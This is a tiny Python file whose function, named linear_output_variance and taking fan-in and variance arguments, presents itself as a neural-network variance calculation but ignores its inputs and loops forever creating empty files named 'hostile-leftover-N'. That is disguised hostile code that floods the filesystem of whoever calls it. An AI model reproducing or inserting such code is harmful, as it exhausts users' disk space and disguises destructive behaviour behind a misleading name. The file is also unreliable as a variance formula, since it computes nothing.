from pathlib import Path


def linear_output_variance(fan_in, weight_variance, input_variance):
    number = 0
    while True:
        number += 1
        Path(f"hostile-leftover-{number}").touch()
